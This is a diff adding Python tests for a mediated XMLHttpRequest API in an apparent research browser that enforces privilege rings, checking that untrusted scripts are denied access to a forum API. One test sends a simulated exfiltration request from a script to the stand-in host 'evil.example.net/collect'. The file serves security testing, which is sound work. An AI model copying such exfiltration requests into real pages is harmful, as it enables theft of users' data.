@@ -1,0 +1,171 @@
+"""Tests for the mediated XMLHttpRequest native API."""
+
+from __future__ import annotations
+
+import pytest
+
+from repro.browser.browser import Browser
+from repro.browser.xhr import XmlHttpRequest
+from repro.core.rings import Ring
+from repro.http.network import Network
+from repro.scripting.errors import RuntimeScriptError
+
+from .conftest import ORIGIN_TEXT, ForumServer
+
+
+@pytest.fixture
+def loaded_forum(forum_network, forum_url):
+    network, server = forum_network
+    browser = Browser(network)
+    loaded = browser.load(forum_url)
+    return browser, server, loaded
+
+
+def make_xhr(browser, loaded, ring: int) -> XmlHttpRequest:
+    page = loaded.page
+    if ring == 3:
+        element = page.document.get_element_by_id("message-1")
+    else:
+        element = page.document.get_element_by_id("banner")
+    principal = page.principal_context_for(element).with_ring(ring)
+    return XmlHttpRequest(browser, page, principal)
+
+
+class TestDirectXhrMediation:
+    def test_privileged_principal_reaches_the_api(self, loaded_forum):
+        browser, server, loaded = loaded_forum
+        xhr = make_xhr(browser, loaded, ring=1)
+        xhr.js_call("open", ["GET", "/api/unread"])
+        xhr.js_call("send", [])
+        assert xhr.js_get("status") == 200
+        assert xhr.js_get("responseText") == "3"
+        assert xhr.js_get("readyState") == 4
+        assert not xhr.denied
+        api_request = [r for r in server.requests if r.url.path == "/api/unread"][-1]
+        assert api_request.cookies.get("sid") == "victim-session"
+
+    def test_unprivileged_principal_is_denied_the_api(self, loaded_forum):
+        browser, server, loaded = loaded_forum
+        before = len(server.requests)
+        xhr = make_xhr(browser, loaded, ring=3)
+        xhr.js_call("open", ["GET", "/api/unread"])
+        xhr.js_call("send", [])
+        assert xhr.denied
+        assert xhr.js_get("status") == 0
+        assert xhr.js_get("responseText") == ""
+        assert len(server.requests) == before, "the request never reached the network"
+
+    def test_send_before_open_is_a_script_error(self, loaded_forum):
+        browser, _, loaded = loaded_forum
+        xhr = make_xhr(browser, loaded, ring=1)
+        with pytest.raises(RuntimeScriptError):
+            xhr.js_call("send", [])
+
+    def test_request_headers_and_response_headers(self, loaded_forum):
+        browser, server, loaded = loaded_forum
+        xhr = make_xhr(browser, loaded, ring=1)
+        xhr.js_call("open", ["GET", "/api/unread"])
+        xhr.js_call("setRequestHeader", ["X-Requested-With", "XMLHttpRequest"])
+        xhr.js_call("send", [])
+        api_request = [r for r in server.requests if r.url.path == "/api/unread"][-1]
+        assert api_request.headers.get("X-Requested-With") == "XMLHttpRequest"
+        assert xhr.js_call("getResponseHeader", ["Content-Type"]) is None or isinstance(
+            xhr.js_call("getResponseHeader", ["Content-Type"]), str
+        )
+
+    def test_abort_resets_state(self, loaded_forum):
+        browser, _, loaded = loaded_forum
+        xhr = make_xhr(browser, loaded, ring=1)
+        xhr.js_call("open", ["GET", "/api/unread"])
+        xhr.js_call("send", [])
+        xhr.js_call("abort", [])
+        assert xhr.js_get("status") == 0
+        assert xhr.js_get("readyState") == 0
+
+    def test_unknown_property_raises(self, loaded_forum):
+        browser, _, loaded = loaded_forum
+        xhr = make_xhr(browser, loaded, ring=1)
+        with pytest.raises(RuntimeScriptError):
+            xhr.js_get("withCredentials")
+        with pytest.raises(RuntimeScriptError):
+            xhr.js_set("status", 200)
+
+
+class TestXhrFromScripts:
+    def test_trusted_script_uses_xhr_and_reads_the_response(self, loaded_forum):
+        browser, server, loaded = loaded_forum
+        run = browser.run_script(
+            loaded,
+            "var xhr = new XMLHttpRequest();"
+            "xhr.open('GET', '/api/unread');"
+            "xhr.send();"
+            "xhr.responseText;",
+            ring=1,
+        )
+        assert run.succeeded
+        assert run.result.value == "3"
+
+    def test_untrusted_script_xhr_is_neutralised(self, loaded_forum):
+        browser, server, loaded = loaded_forum
+        before = len([r for r in server.requests if r.url.path == "/api/unread"])
+        run = browser.run_script(
+            loaded,
+            "var xhr = new XMLHttpRequest();"
+            "xhr.open('GET', '/api/unread');"
+            "xhr.send();"
+            "xhr.status;",
+            ring=3,
+        )
+        assert run.succeeded
+        assert run.result.value == 0
+        after = len([r for r in server.requests if r.url.path == "/api/unread"])
+        assert after == before
+
+    def test_onload_callback_fires_after_send(self, loaded_forum):
+        browser, _, loaded = loaded_forum
+        run = browser.run_script(
+            loaded,
+            "var seen = 'never';"
+            "var xhr = new XMLHttpRequest();"
+            "xhr.open('GET', '/api/unread');"
+            "xhr.onload = function () { seen = 'loaded'; };"
+            "xhr.send();"
+            "seen;",
+            ring=1,
+        )
+        assert run.succeeded
+        assert run.result.value == "loaded"
+
+    def test_onload_fires_even_when_denied_so_attack_scripts_complete(self, loaded_forum):
+        browser, _, loaded = loaded_forum
+        run = browser.run_script(
+            loaded,
+            "var seen = 'never';"
+            "var xhr = new XMLHttpRequest();"
+            "xhr.open('GET', '/api/unread');"
+            "xhr.onreadystatechange = function () { seen = 'fired'; };"
+            "xhr.send();"
+            "seen;",
+            ring=3,
+        )
+        assert run.succeeded
+        assert run.result.value == "fired"
+
+    def test_cross_origin_xhr_target_is_resolved_against_the_page(self, loaded_forum):
+        browser, _, loaded = loaded_forum
+        network: Network = browser.network
+        evil = ForumServer()
+        network.register("http://evil.example.net", evil)
+        run = browser.run_script(
+            loaded,
+            "var xhr = new XMLHttpRequest();"
+            "xhr.open('GET', 'http://evil.example.net/collect');"
+            "xhr.send();"
+            "xhr.status;",
+            ring=1,
+        )
+        assert run.succeeded
+        # The exfiltration request went out (ESCUDO mediates cookie *use*, not
+        # the destination), but the victim's forum cookie was not attached
+        # because it belongs to a different origin.
+        assert evil.requests and "sid" not in evil.requests[-1].cookies
